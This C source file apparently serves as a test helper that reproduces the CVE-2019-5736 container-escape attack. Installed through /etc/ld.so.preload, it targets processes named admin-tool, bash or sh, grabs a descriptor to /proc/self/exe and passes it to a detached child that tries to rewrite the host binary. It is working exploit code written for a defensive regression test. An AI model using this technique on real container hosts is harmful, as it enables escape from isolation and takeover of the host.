// vx-preload-exe: the CVE-2019-5736 attack, as root inside a server would
// make it, for tests/guest/cases/vserver_exec_attacks.sh.  Put in the
// server's /etc/ld.so.preload, it is loaded into the programs run there.
// In one whose name (comm) is "admin-tool", "bash" or "sh" (the commands
// the test links to /proc/self/exe) it keeps a descriptor of the program's
// own file and hands it to a child that executes /bin/vx-exe-writer, which
// outlives the program and tries to rewrite the file.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int targeted(void)
{
	char comm[32] = "";
	int fd = open("/proc/self/comm", O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return 0;
	n = read(fd, comm, sizeof(comm) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	comm[strcspn(comm, "\n")] = '\0';
	return !strcmp(comm, "admin-tool") || !strcmp(comm, "bash") || !strcmp(comm, "sh");
}

__attribute__((constructor)) static void grab_exe(void)
{
	sigset_t hangup, saved;
	char fd_text[16];
	int exe;

	if (!targeted())
		return;
	exe = open("/proc/self/exe", O_PATH);
	if (exe < 0)
		return;
	/*
	 * The child must be deaf to the hangup the program's terminal sends
	 * its group when the program, its session leader, ends first, and
	 * the program may end before the child has run at all: the signal
	 * is blocked across the fork, and ignored before the child lets it
	 * through.
	 */
	sigemptyset(&hangup);
	sigaddset(&hangup, SIGHUP);
	sigprocmask(SIG_BLOCK, &hangup, &saved);
	if (fork() == 0) {
		signal(SIGHUP, SIG_IGN);
		setsid();
		sigprocmask(SIG_SETMASK, &saved, NULL);
		snprintf(fd_text, sizeof(fd_text), "%d", exe);
		execl("/bin/vx-exe-writer", "vx-exe-writer", fd_text, (char *)NULL);
		_exit(127);
	}
	sigprocmask(SIG_SETMASK, &saved, NULL);
	close(exe);
}
